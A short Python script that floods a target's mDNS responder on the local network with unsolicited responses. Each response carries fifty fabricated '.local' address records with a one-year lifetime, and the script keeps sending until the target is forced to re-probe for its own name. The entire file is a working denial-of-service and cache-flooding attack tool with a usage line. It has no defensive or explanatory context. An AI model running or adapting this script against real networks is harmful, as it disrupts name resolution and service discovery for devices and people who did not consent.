"""Sends a responder records that nobody asked for, until it probes for its name anew. Usage: flood.py OWN TARGET NAME"""
import select
import socket
import struct
import sys
import time

own, target, name = sys.argv[1:]
GROUP, PORT, RECORDS = "224.0.0.251", 5353, 50

heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
heard.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
heard.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
heard.bind((GROUP, PORT))
heard.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(own))
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.bind((own, 0))


def response(number):
    """Addresses of hosts that there are not, to be kept for a year."""
    message = struct.pack(">6H", 0, 0x8400, 0, RECORDS, 0, 0)
    for at in range(RECORDS):
        label = b"%x-%x" % (number, at)
        message += bytes([len(label)]) + label + b"\x05local\x00"
        message += struct.pack(">HHIH", 1, 1, 31536000, 4) + socket.inet_aton("10.77.0.9")
    return message


deadline, number = time.monotonic() + 60, 0
while time.monotonic() < deadline:
    out.sendto(response(number), (target, PORT))
    number += 1
    if not select.select([heard], [], [], 0.002)[0]:
        continue
    message = heard.recv(9000)
    _, flags, _, _, authorities, _ = struct.unpack(">6H", message[:12])
    if flags & 0x8000 == 0 and authorities > 0 and name.encode() in message:
        sys.exit(0)
sys.exit("it keeps all records")
